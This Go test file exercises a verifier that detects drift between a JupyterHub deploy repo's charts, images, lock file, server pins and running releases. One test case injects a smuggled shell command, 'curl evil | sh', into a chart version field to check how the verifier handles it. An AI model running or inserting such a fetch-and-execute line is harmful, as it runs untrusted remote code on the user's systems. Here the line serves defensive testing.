package verify

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"chartd.dev/chartd/internal/api"
	"chartd.dev/chartd/internal/archive"
	"chartd.dev/chartd/internal/deploy"
	"chartd.dev/chartd/internal/deploy/lockfile"
	"chartd.dev/chartd/internal/deploy/release"
	"chartd.dev/chartd/internal/e2e/rig"
	"chartd.dev/chartd/internal/model"
	"chartd.dev/chartd/internal/ref"
	"chartd.dev/chartd/internal/testtools"
)

const source = "https://charts.example.edu"

// deployRepo is a small deploy repo: a wrapper chart with a custom hub image,
// two environments that share it, and one with an image site of its own.
type deployRepo struct {
	testing.TB
	dir   string
	entry lockfile.Entry // of every environment
	pkg   []byte         // of the chart
	files map[string]string
}

func digestOf(s string) ref.Digest { return ref.DigestOf([]byte(s)) }

func write(t testing.TB, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func must[T any](t testing.TB) func(T, error) T {
	return func(v T, err error) T {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
}

func newDeployRepo(t testing.TB) *deployRepo {
	t.Helper()
	root := must[string](t)(testtools.Root())
	pkg := must[[]byte](t)(rig.Hub{Version: "1.1.0"}.Package(root))
	hub := must[ref.Repository](t)(ref.ParseRepository("quay.io/campus/hub"))
	base := must[ref.Repository](t)(ref.ParseRepository("quay.io/example/hub"))
	r := &deployRepo{TB: t, dir: t.TempDir(), pkg: pkg}
	image := lockfile.Image{Role: "hub", Repository: hub, Tag: "2026.2", Digest: digestOf("campus 2026.2")}
	r.entry = lockfile.Entry{
		Chart: lockfile.Chart{Name: "jupyterhub", Version: "1.1.0", Digest: ref.DigestOf(pkg)}, Source: source,
		Images:  []lockfile.Image{image},
		Bases:   []lockfile.Image{{Role: "hub", Repository: base, Tag: "1.1.0", Digest: digestOf("hub 1.1.0")}},
		Binding: ref.BindingIDOf(ref.DigestOf(pkg), map[ref.Role]ref.Image{"hub": {Repository: hub, Digest: image.Digest}}),
	}
	r.files = map[string]string{
		".chartctl.yaml": `version: 1
server: ` + source + `
flow: pin
sites:
  hub:
    - {kind: dependency, file: hub/requirements.yaml, name: jupyterhub}
    - {kind: image, file: hub/values.yaml, path: jupyterhub.hub.image, role: hub}
    - {kind: from, file: images/hub/Dockerfile, repository: example/hub, role: hub}
  user:
    - {kind: image-ref, file: deployments/r/hubploy.yaml, path: 'images.image_name', role: singleuser}
environments:
  data8/staging:
    chart: jupyterhub
    sites: [hub]
    wrapper: hub
    prefix: jupyterhub
  r/staging:
    chart: jupyterhub
    sites: [hub, user]
    wrapper: hub
    prefix: jupyterhub
`,
		"hub/Chart.yaml":             "apiVersion: v1\nname: hub\nversion: 0.1.0\n",
		"hub/requirements.yaml":      "dependencies:\n - name: jupyterhub\n   # the base image has to fit\n   version: 1.1.0\n   repository: " + source + "\n",
		"hub/values.yaml":            "jupyterhub:\n  hub:\n    image:\n      name: quay.io/campus/hub\n      tag: '2026.2@" + image.Digest.String() + "'\n",
		"images/hub/Dockerfile":      "# should match\nFROM example/hub:1.1.0\nUSER root\n",
		"deployments/r/hubploy.yaml": "images:\n  image_name: quay.io/campus/r:abc\n",
	}
	return r.lock("data8/staging", "r/staging")
}

// lock writes the entry for each of the keys.
func (r *deployRepo) lock(keys ...string) *deployRepo {
	var f lockfile.File
	for _, key := range keys {
		e := r.entry
		e.Key = key
		f = f.With(e)
	}
	r.files[lockfile.Name] = string(f.Bytes())
	return r
}

// edit replaces old, which has to be there, in a file.
func (r *deployRepo) edit(file, old, new string) {
	r.Helper()
	if !strings.Contains(r.files[file], old) {
		r.Fatalf("%s does not hold %q", file, old)
	}
	r.files[file] = strings.Replace(r.files[file], old, new, 1)
}

func (r *deployRepo) verify(o Options) (Verdict, error) {
	r.Helper()
	for name, text := range r.files {
		write(r, filepath.Join(r.dir, name), text)
	}
	repo, err := deploy.Open(r.Context(), r.dir)
	if err != nil {
		return Verdict{}, err
	}
	defer repo.Close()
	return Repo(repo, o)
}

// pinned is the server's answer where both environments are pinned to entry.
func (r *deployRepo) pinned() map[ref.Env]api.Environment {
	out := map[ref.Env]api.Environment{}
	for _, name := range []string{"data8/staging", "r/staging"} {
		env, _ := ref.ParseEnv(name)
		i, base := r.entry.Images[0], r.entry.Bases[0]
		images := []api.BoundImage{{Role: "hub", Required: true, Tag: i.Tag, BaseTag: base.Tag,
			Image: ref.Image{Repository: i.Repository, Digest: i.Digest}, Base: ref.Image{Repository: base.Repository, Digest: base.Digest}}}
		b := api.Binding{ID: r.entry.Binding, Name: "jupyterhub", Version: "1.1.0", Package: r.entry.Chart.Digest, Images: images}
		p := api.Pin{Env: env, Revision: 4, Binding: b.ID, Name: b.Name, Version: b.Version, Images: images, By: "ci", At: time.Unix(1700000000, 0)}
		out[env] = api.Environment{Env: env, Chart: "jupyterhub", Revision: 4, Pin: &p, Binding: &b}
	}
	return out
}

func TestVerifyClean(t *testing.T) {
	r := newDeployRepo(t)
	r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(r.pkg)
	r.files["hub/charts/other-9.9.9.tgz"] = "not ours"
	content := must[*archive.Package](t)(archive.Read(r.pkg, archive.Options{})).Content
	v, err := r.verify(Options{Environments: r.pinned(),
		Charts: map[string]api.Chart{"jupyterhub@1.1.0": {Name: "jupyterhub", Version: "1.1.0", Content: content}},
		Tags:   map[string]ref.Digest{"quay.io/campus/hub:2026.2": digestOf("campus 2026.2"), "quay.io/example/hub:1.1.0": digestOf("hub 1.1.0")}})
	if err != nil || len(v.Findings) > 0 || len(v.Notes) > 0 {
		t.Errorf("%v\n%v\n%q", err, v.Findings, v.Notes)
	}
}

// The three ways in which a pair was broken in a real repo, each in one line.
func TestVerifyHistory(t *testing.T) {
	b := newDeployRepo(t).entry.Binding.String()
	for name, tt := range map[string]struct {
		change func(r *deployRepo)
		want   string
	}{
		"2017: chart back, image forward": {func(r *deployRepo) {
			r.edit("hub/requirements.yaml", "version: 1.1.0", "version: 1.0.0")
			r.edit("hub/values.yaml", "'2026.2@"+r.entry.Images[0].Digest.String()+"'", "'2026.3'")
		}, "hub/requirements.yaml:4: jupyterhub is 1.0.0, locked is 1.1.0: the chart moved back while the hub image in hub/values.yaml:5 moved forward, from 2026.2 to 2026.3: " +
			"the halves went opposite ways and do not belong together. Mend: to stay at 1.1.0: chartctl bump data8/staging --group --allow-dirty --binding " + b +
			"; to move both: chartctl bump data8/staging --group --allow-dirty --version 1.0.0 --image hub=quay.io/campus/hub:2026.3 (data8/staging, r/staging)"},
		"2021: chart forward, image not": {func(r *deployRepo) {
			r.edit("hub/requirements.yaml", "version: 1.1.0", "version: 1.2.0")
			r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0")
		}, "hub/requirements.yaml:4: jupyterhub is 1.2.0, locked is 1.1.0: the chart and FROM in images/hub/Dockerfile:2 moved forward alone; " +
			"the hub image in hub/values.yaml:5 is still 2026.2, the one built for 1.1.0. Mend: to stay at 1.1.0: chartctl bump data8/staging --group --allow-dirty --binding " + b +
			"; to move both: chartctl bump data8/staging --group --allow-dirty --version 1.2.0 --image hub=quay.io/campus/hub:TAG, with an image built for it (data8/staging, r/staging)"},
		"2024: chart and Dockerfile back, image stays": {func(r *deployRepo) {
			r.edit("hub/requirements.yaml", "version: 1.1.0", "version: 1.0.0")
			r.edit("images/hub/Dockerfile", "1.1.0", "1.0.0")
		}, "hub/requirements.yaml:4: jupyterhub is 1.0.0, locked is 1.1.0: the chart and FROM in images/hub/Dockerfile:2 moved back alone; " +
			"the hub image in hub/values.yaml:5 is still 2026.2, the one built for 1.1.0. Mend: to stay at 1.1.0: chartctl bump data8/staging --group --allow-dirty --binding " + b +
			"; to move both: chartctl bump data8/staging --group --allow-dirty --version 1.0.0 --image hub=quay.io/campus/hub:TAG, with an image built for it (data8/staging, r/staging)"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newDeployRepo(t)
			tt.change(r)
			v, err := r.verify(Options{})
			if err != nil || len(v.Findings) != 1 || v.Findings[0].String() != tt.want {
				t.Errorf("%v\n%v\nwant\n%s", err, v.Findings, tt.want)
			}
		})
	}
}

// Every other kind of difference: one line, with its kind, its place and words
// that tell what to do.
func TestVerifyDifferences(t *testing.T) {
	other := digestOf("other")
	for name, tt := range map[string]struct {
		change func(r *deployRepo, o *Options)
		kind   string
		at     string
		words  []string
	}{
		"image alone": {func(r *deployRepo, _ *Options) { r.edit("hub/values.yaml", "2026.2", "2026.10") },
			DriftPair, "hub/values.yaml:5", []string{"the hub image is 2026.10", "moved forward alone", "jupyterhub in hub/requirements.yaml:4 is still 1.1.0", "--image hub=quay.io/campus/hub:2026.10"}},
		"image by another digest": {func(r *deployRepo, _ *Options) {
			r.edit("hub/values.yaml", r.entry.Images[0].Digest.Hex(), other.Hex())
		}, DriftPair, "hub/values.yaml:5", []string{"another digest under the same tag", other.Hex()[:12]}},
		"image without its digest": {func(r *deployRepo, _ *Options) {
			r.edit("hub/values.yaml", "@"+r.entry.Images[0].Digest.String(), "")
		}, DriftSite, "hub/values.yaml:5", []string{"the tag alone does not say which image runs", "chartctl bump data8/staging --group --allow-dirty --binding"}},
		"image from another repository": {func(r *deployRepo, _ *Options) { r.edit("hub/values.yaml", "campus/hub", "evil/hub") },
			DriftPair, "hub/values.yaml:", []string{"quay.io/evil/hub:2026.2"}},
		"image and FROM": {func(r *deployRepo, _ *Options) {
			r.edit("hub/values.yaml", "2026.2", "2026.3")
			r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0")
		}, DriftPair, "hub/values.yaml:5", []string{"the image and FROM in images/hub/Dockerfile:2 moved", "is still 1.1.0"}},
		"FROM alone": {func(r *deployRepo, _ *Options) { r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0") },
			DriftPair, "images/hub/Dockerfile:2", []string{"FROM is example/hub:1.2.0", "--prepare"}},
		"chart and image both forward": {func(r *deployRepo, _ *Options) {
			r.edit("hub/requirements.yaml", "1.1.0", "1.2.0")
			r.edit("hub/values.yaml", "2026.2", "2026.3")
		}, DriftPair, "hub/requirements.yaml:4", []string{"nobody has checked that they belong together"}},
		"another chart repository": {func(r *deployRepo, _ *Options) {
			r.edit("hub/requirements.yaml", source, "https://elsewhere.example")
		}, DriftSite, "hub/requirements.yaml:", []string{"https://elsewhere.example", source}},
		"a site that is gone": {func(r *deployRepo, _ *Options) { r.edit("images/hub/Dockerfile", "FROM", "# FROM") },
			DriftSite, "images/hub/Dockerfile", []string{"cannot be checked", "is not there"}},
		"a file that is gone": {func(r *deployRepo, _ *Options) {
			r.edit(".chartctl.yaml", "images/hub/Dockerfile", "images/hub/Containerfile")
		}, DriftSite, "images/hub/Containerfile", []string{"there is no such file"}},
		"a merge conflict": {func(r *deployRepo, _ *Options) {
			r.edit("hub/values.yaml", "      tag:", "<<<<<<< HEAD\n      tag: one\n=======\n      tag: two\n>>>>>>> other\n      tag:")
		}, DriftSite, "hub/values.yaml:5", []string{"git's conflict markers", "take either side (git checkout --ours -- hub/values.yaml), then: chartctl bump data8/staging --group --allow-dirty --binding b1:"}},
		"a template": {func(r *deployRepo, _ *Options) { r.edit("hub/values.yaml", "'2026.2", "'{{ .Tag }}") },
			DriftSite, "hub/values.yaml:5", []string{"{{"}},
		"Helm's lock file": {func(r *deployRepo, _ *Options) {
			r.files["hub/requirements.lock"] = "dependencies:\n- name: jupyterhub\n  repository: " + source + "\n  version: 1.0.0\ndigest: " + other.String() + "\ngenerated: \"2024-01-01T00:00:00Z\"\n"
		}, DriftHelmLock, "hub/requirements.lock:", []string{"1.0.0", "helm dependency update hub"}},
		"an older packed chart": {func(r *deployRepo, _ *Options) {
			root, _ := testtools.Root()
			r.files["hub/charts/jupyterhub-1.0.0.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.0.0"}.Package(root)))
		}, DriftPacked, "hub/charts/jupyterhub-1.0.0.tgz", []string{"the packed chart is jupyterhub 1.0.0, locked is jupyterhub 1.1.0", "Helm would deploy the packed one", "helm dependency update hub"}},
		"another content under the version": {func(r *deployRepo, o *Options) {
			root, _ := testtools.Root()
			r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.1.0", Note: "another"}.Package(root)))
			o.Charts = map[string]api.Chart{"jupyterhub@1.1.0": {Content: digestOf("published")}}
		}, DriftPacked, "hub/charts/jupyterhub-1.1.0.tgz", []string{"its content is not what was published"}},
		"another digest, offline": {func(r *deployRepo, _ *Options) {
			root, _ := testtools.Root()
			r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.1.0", Note: "another"}.Package(root)))
		}, DriftPacked, "hub/charts/jupyterhub-1.1.0.tgz", []string{"whether only the packing differs is told without --offline"}},
		"no chart in charts/": {func(r *deployRepo, _ *Options) { r.files["hub/charts/jupyterhub-1.1.0.tgz"] = "no chart" },
			DriftPacked, "hub/charts/jupyterhub-1.1.0.tgz", []string{"not a chart"}},
		"two packages": {func(r *deployRepo, _ *Options) {
			r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(r.pkg)
			r.files["hub/charts/jupyterhub-1.1.0-again.tgz"] = string(r.pkg)
		}, DriftPacked, "hub/charts", []string{"2 packages of jupyterhub"}},
		"an unpacked chart": {func(r *deployRepo, _ *Options) {
			r.files["hub/charts/jupyterhub/Chart.yaml"] = "name: jupyterhub\nversion: 1.0.0\n"
		}, DriftPacked, "hub/charts/jupyterhub/Chart.yaml:2", []string{"the unpacked chart is jupyterhub 1.0.0"}},
		"an older chart under another file name": {func(r *deployRepo, _ *Options) {
			root, _ := testtools.Root()
			r.files["hub/charts/upstream.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.0.0"}.Package(root)))
		}, DriftPacked, "hub/charts/upstream.tgz", []string{"the packed chart is jupyterhub 1.0.0", "Helm would deploy the packed one"}},
		"an older chart in another directory": {func(r *deployRepo, _ *Options) {
			r.files["hub/charts/upstream/Chart.yaml"] = "name: jupyterhub\nversion: 1.0.0\n"
		}, DriftPacked, "hub/charts/upstream/Chart.yaml:2", []string{"the unpacked chart is jupyterhub 1.0.0"}},
		"two lists of dependencies": {func(r *deployRepo, _ *Options) {
			r.files["hub/Chart.yaml"] += "dependencies:\n- {name: jupyterhub, version: 1.0.0, repository: x}\n"
		}, DriftSite, "hub/requirements.yaml:2", []string{"hub/Chart.yaml:5 has some too", "keep one"}},
		"an alias that the values do not have": {func(r *deployRepo, _ *Options) {
			r.edit("hub/requirements.yaml", "   version: 1.1.0", "   version: 1.1.0\n   alias: jh")
		}, DriftSite, "hub/requirements.yaml:5", []string{`under "jh"`, `prefix in .chartctl.yaml is "jupyterhub"`, "the chart's own image runs"}},
		"an alias that a site does not have": {func(r *deployRepo, _ *Options) {
			r.edit("hub/requirements.yaml", "   version: 1.1.0", "   version: 1.1.0\n   alias: jh")
			r.files[".chartctl.yaml"] = strings.ReplaceAll(r.files[".chartctl.yaml"], "prefix: jupyterhub", "prefix: jh")
		}, DriftSite, "hub/values.yaml", []string{"jupyterhub.hub.image is not read"}},
		"two documents": {func(r *deployRepo, _ *Options) {
			r.files["hub/requirements.yaml"] = "dependencies: []\n---\n" + r.files["hub/requirements.yaml"]
		}, DriftSite, "hub/requirements.yaml", []string{"2 YAML documents"}},
		"a revision that does not run": {func(r *deployRepo, o *Options) {
			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Revision: 7, Status: "superseded"})
		}, DriftDeployed, "chartd.lock:4", []string{"revision 7 of release data8 is superseded"}},
		"a version that is none": {func(r *deployRepo, _ *Options) {
			r.edit("hub/requirements.yaml", "version: 1.1.0", "version: 1.1.0; curl evil | sh")
		}, DriftPair, "hub/requirements.yaml:4", []string{"Mend: to stay at 1.1.0: chartctl bump data8/staging --group --allow-dirty --binding " + newDeployRepo(t).entry.Binding.String() + " ("}},
		"no entry": {func(r *deployRepo, _ *Options) { r.lock("r/staging") },
			DriftLock, "chartd.lock", []string{"no entry for data8/staging", "chartctl bump data8/staging --group --latest"}},
		"a stranger's entry": {func(r *deployRepo, _ *Options) { r.lock("data8/staging", "r/staging", "x/staging") },
			DriftLock, "chartd.lock:", []string{"x/staging is locked", "names no such environment"}},
		"another source": {func(r *deployRepo, _ *Options) {
			r.entry.Source = "https://old.example.edu"
			r.lock("data8/staging", "r/staging")
			r.edit("hub/requirements.yaml", source, "https://old.example.edu")
		}, DriftLock, "chartd.lock:5", []string{"https://old.example.edu"}},
		"another chart": {func(r *deployRepo, _ *Options) {
			r.files[".chartctl.yaml"] = strings.ReplaceAll(r.files[".chartctl.yaml"], "chart: jupyterhub", "chart: binderhub")
		},
			DriftLock, "chartd.lock:4", []string{"the locked chart is jupyterhub", "binderhub"}},
		"prepared": {func(r *deployRepo, _ *Options) {
			r.entry.Prepare = &lockfile.Chart{Name: "jupyterhub", Version: "1.2.0", Digest: other}
			r.lock("data8/staging", "r/staging")
			r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0")
		}, DriftLock, "chartd.lock:8", []string{"prepared, image pending", "--version 1.2.0 --image hub=quay.io/campus/hub:TAG"}},
		"another pin": {func(r *deployRepo, o *Options) {
			o.Environments = r.pinned()
			for env, e := range o.Environments {
				p := *e.Pin
				p.Version, p.Binding = "1.0.0", ref.BindingIDOf(other, nil)
				e.Pin = &p
				o.Environments[env] = e
			}
		}, DriftPin, "chartd.lock:4", []string{"locked is jupyterhub 1.1.0 with hub 2026.2@sha256:", "the server has jupyterhub 1.0.0", "as revision 4, by ci", "git pull"}},
		"no pin": {func(r *deployRepo, o *Options) {
			o.Environments = r.pinned()
			for env, e := range o.Environments {
				e.Pin, e.Binding = nil, nil
				o.Environments[env] = e
			}
		}, DriftPin, "chartd.lock:4", []string{"the server has pinned nothing"}},
		"no environment": {func(r *deployRepo, o *Options) {
			o.Environments = r.pinned()
			env, _ := ref.ParseEnv("r/staging")
			delete(o.Environments, env)
		}, DriftPin, "chartd.lock:", []string{"the server knows no environment r/staging", "chartctl env create r/staging --chart jupyterhub"}},
		"a tag that the server has otherwise": {func(r *deployRepo, o *Options) {
			o.Environments = r.pinned()
			for _, e := range o.Environments {
				e.Binding.Images[0].Tag = "latest"
			}
		}, DriftPin, "chartd.lock:", []string{"a tag or a base is not as the server has it"}},
		"a tag that was moved": {func(_ *deployRepo, o *Options) {
			o.Tags = map[string]ref.Digest{"quay.io/campus/hub:2026.2": other, "quay.io/example/hub:1.1.0": digestOf("hub 1.1.0")}
		}, DriftTag, "chartd.lock:", []string{"the tag quay.io/campus/hub:2026.2 was moved", other.Hex()[:12], "which stays pinned"}},
		"a base that was moved": {func(_ *deployRepo, o *Options) {
			o.Tags = map[string]ref.Digest{"quay.io/campus/hub:2026.2": digestOf("campus 2026.2"), "quay.io/example/hub:1.1.0": other}
		}, DriftTag, "chartd.lock:", []string{"the tag quay.io/example/hub:1.1.0 was moved", "build the hub image again"}},
		"another chart runs": {func(r *deployRepo, o *Options) {
			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.0.0"})
		}, DriftDeployed, "chartd.lock:4", []string{"release data8 runs jupyterhub 1.0.0, locked is 1.1.0", "chartctl deploy data8/staging"}},
		"another image runs": {func(r *deployRepo, o *Options) {
			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true, Images: []release.Image{running("quay.io/campus/hub:2026.1")}})
		}, DriftDeployed, "chartd.lock:", []string{"container hub of Deployment/hub in release data8 runs the hub image quay.io/campus/hub:2026.1"}},
		"no such image runs": {func(r *deployRepo, o *Options) {
			o.Deployed = deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true, Images: []release.Image{running("quay.io/example/hub:1.1.0")}})
		}, DriftDeployed, "chartd.lock:", []string{"no container of release data8 runs the hub image quay.io/campus/hub; its container hub runs quay.io/example/hub:1.1.0"}},
	} {
		t.Run(name, func(t *testing.T) {
			r, o := newDeployRepo(t), Options{}
			tt.change(r, &o)
			v, err := r.verify(o)
			var lines []string
			for _, f := range v.Findings {
				if f.Kind == tt.kind {
					lines = append(lines, f.String())
				}
			}
			if err != nil || len(lines) == 0 {
				t.Fatalf("%v\n%v", err, v.Findings)
			}
			if !strings.HasPrefix(lines[0], tt.at) || strings.Contains(lines[0], "\n") || strings.ContainsAny(lines[0], "{}") && name != "a template" {
				t.Errorf("line %q, want one at %s", lines[0], tt.at)
			}
			for _, w := range tt.words {
				if !strings.Contains(lines[0], w) {
					t.Errorf("line lacks %q:\n%s", w, lines[0])
				}
			}
			// What concerns both environments is one line.
			if n := len(v.Findings); n > 1 {
				t.Errorf("%d lines:\n%v", n, v.Findings)
			}
		})
	}
}

func deployedAs(r *deployRepo, h release.Release) map[ref.Env]release.Release {
	env, err := ref.ParseEnv("data8/staging")
	if err != nil {
		r.Fatal(err)
	}
	return map[ref.Env]release.Release{env: h}
}

func running(image string) release.Image {
	r, _ := ref.ParseReference(image)
	return release.Image{Object: "Deployment/hub", Container: "hub", Text: image, Ref: r}
}

// What Helm lists holds no image, and that is said; a release secret has it.
func TestVerifyDeployedNotes(t *testing.T) {
	r := newDeployRepo(t)
	v, err := r.verify(Options{Deployed: deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0"})})
	if err != nil || len(v.Findings) > 0 || len(v.Notes) != 1 || !strings.Contains(v.Notes[0], "holds no image: only the chart was checked") {
		t.Errorf("%v, %v, %q", err, v.Findings, v.Notes)
	}
	v, err = r.verify(Options{Deployed: deployedAs(r, release.Release{Name: "data8", Label: "jupyterhub-1.1.0", Rendered: true,
		Images: []release.Image{running("quay.io/campus/hub:2026.2@" + r.entry.Images[0].Digest.String())}})})
	if err != nil || len(v.Findings)+len(v.Notes) > 0 {
		t.Errorf("%v, %v, %q", err, v.Findings, v.Notes)
	}
}

// A lock that is ahead of its pin, or prepared, is for --pending to accept.
func TestVerifyPending(t *testing.T) {
	r := newDeployRepo(t)
	r.edit(".chartctl.yaml", "flow: pin", "flow: review")
	envs := r.pinned()
	for env, e := range envs {
		p := *e.Pin
		p.Binding = ref.BindingIDOf(digestOf("older"), nil)
		e.Pin = &p
		envs[env] = e
	}
	for pending, want := range map[bool]int{true: 0, false: 1} {
		v, err := r.verify(Options{Environments: envs, Pending: pending})
		if err != nil || len(v.Findings) != want {
			t.Errorf("pending %v: %v, %v", pending, err, v.Findings)
		}
	}
	r.entry.Prepare = &lockfile.Chart{Name: "jupyterhub", Version: "1.2.0", Digest: digestOf("1.2.0")}
	r.lock("data8/staging", "r/staging")
	r.edit("images/hub/Dockerfile", "1.1.0", "1.2.0")
	v, err := r.verify(Options{Pending: true})
	if err != nil || len(v.Findings) > 0 || len(v.Notes) != 1 || !strings.Contains(v.Notes[0], "prepared, image pending") {
		t.Errorf("%v, %v, %q", err, v.Findings, v.Notes)
	}
}

// A package that Helm saved again is the locked one by its content, and a
// sealed one by the server's digest or, offline, by the images it carries.
func TestVerifyPackedByContent(t *testing.T) {
	root := must[string](t)(testtools.Root())
	r := newDeployRepo(t)
	again := must[[]byte](t)(rig.Hub{Version: "1.1.0"}.Package(root))
	again[4] ^= 1 // the date in gzip's header
	r.files["hub/charts/jupyterhub-1.1.0.tgz"] = string(again)
	content := must[*archive.Package](t)(archive.Read(again, archive.Options{})).Content
	charts := map[string]api.Chart{"jupyterhub@1.1.0": {Content: content}}
	if v, err := r.verify(Options{Charts: charts}); err != nil || len(v.Findings) > 0 {
		t.Errorf("saved again: %v, %v", err, v.Findings)
	}
	i := r.entry.Images[0]
	sealed, _, err := archive.Seal(r.pkg, map[ref.Role]archive.SealImage{"hub": {Repository: i.Repository, Tag: i.Tag, Digest: i.Digest}}, archive.Options{})
	if err != nil {
		t.Fatal(err)
	}
	delete(r.files, "hub/charts/jupyterhub-1.1.0.tgz")
	r.dir = t.TempDir()
	r.files[fmt.Sprintf("hub/charts/jupyterhub-1.1.0.sealed-%s.tgz", ref.DigestOf(sealed).Hex()[:16])] = string(sealed)
	if v, err := r.verify(Options{}); err != nil || len(v.Findings) > 0 || len(v.Notes) != 1 {
		t.Errorf("sealed, offline: %v, %v, %q", err, v.Findings, v.Notes)
	}
	envs := r.pinned()
	for _, e := range envs {
		e.Binding.Sealed = ref.DigestOf(sealed)
	}
	if v, err := r.verify(Options{Environments: envs, Charts: charts}); err != nil || len(v.Findings)+len(v.Notes) > 0 {
		t.Errorf("sealed: %v, %v, %q", err, v.Findings, v.Notes)
	}
	for _, e := range envs {
		e.Binding.Sealed = digestOf("another")
	}
	if v, err := r.verify(Options{Environments: envs, Charts: charts}); err != nil || len(v.Findings) != 1 {
		t.Errorf("another sealed package: %v, %v", err, v.Findings)
	}
}

func TestVerifyErrors(t *testing.T) {
	unknown, _ := ref.ParseEnv("x/staging")
	for name, tt := range map[string]struct {
		change func(r *deployRepo)
		o      Options
		want   string
	}{
		"no lock":     {func(r *deployRepo) { delete(r.files, lockfile.Name) }, Options{}, "nothing is locked yet"},
		"no config":   {func(r *deployRepo) { delete(r.files, ".chartctl.yaml") }, Options{}, "chartctl init"},
		"unknown":     {func(*deployRepo) {}, Options{Envs: []ref.Env{unknown}}, `names no environment "x/staging"; it names data8/staging, r/staging`},
		"edited lock": {func(r *deployRepo) { r.edit(lockfile.Name, "2026.2", "2026.3") }, Options{}, "chartd.lock:"},
	} {
		r := newDeployRepo(t)
		tt.change(r)
		if _, err := r.verify(tt.o); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestHeading(t *testing.T) {
	for _, tt := range []struct {
		from, to string
		want     model.Heading
	}{
		{"2024.4.9", "2024.4.10", model.Forward}, {"0.0.1-n4277.h34a75f34", "0.0.1-n4053.hbbe5898e", model.Back},
		{"20240731-224556.git.8057.h9643afd4", "20240731-224556.git.8060.habc", model.Forward},
		{"0.1.0-401ee46", "0.1.0-a34aa77", model.Unknown}, {"13fa329", "7b33351", model.Unknown},
		{"1234567", "7654321", model.Unknown}, {"2026.1", "2026.2-fix", model.Unknown}, {"a", "a", model.Same},
	} {
		if got := tagHeading(tt.from, tt.to); got != tt.want {
			t.Errorf("tag %s to %s: %v, want %v", tt.from, tt.to, got, tt.want)
		}
	}
	v := &verification{o: Options{Charts: map[string]api.Chart{"hub@v0.9-445a953": {Seq: 7}, "hub@0.0.1-n3175": {Seq: 9}}}}
	for _, tt := range []struct {
		from, to string
		want     model.Heading
	}{
		{"v0.9-445a953", "0.0.1-n3175", model.Forward}, // as they were published, whatever SemVer says
		{"3.3.8", "3.3.7", model.Back}, {"3.3.8", "3.3.10", model.Forward}, {"3.3.8", "latest", model.Unknown},
	} {
		if got := v.chartHeading("hub", tt.from, tt.to); got != tt.want {
			t.Errorf("chart %s to %s: %v, want %v", tt.from, tt.to, got, tt.want)
		}
	}
}
